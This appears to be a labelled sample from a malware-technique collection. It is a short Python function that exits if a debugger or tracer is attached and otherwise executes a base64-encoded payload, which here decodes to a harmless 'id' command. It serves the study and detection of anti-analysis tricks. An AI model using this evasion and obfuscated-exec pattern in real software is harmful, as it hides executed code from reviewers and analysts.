# technique: refuse to run under a debugger/tracer (sys.gettrace) then exec payload
# class: anti-analysis
# source: ReversingLabs, anti-debugging checks in Python malware
# declares:
import base64
import sys


def run():
    if sys.gettrace() is not None:
        return
    exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))
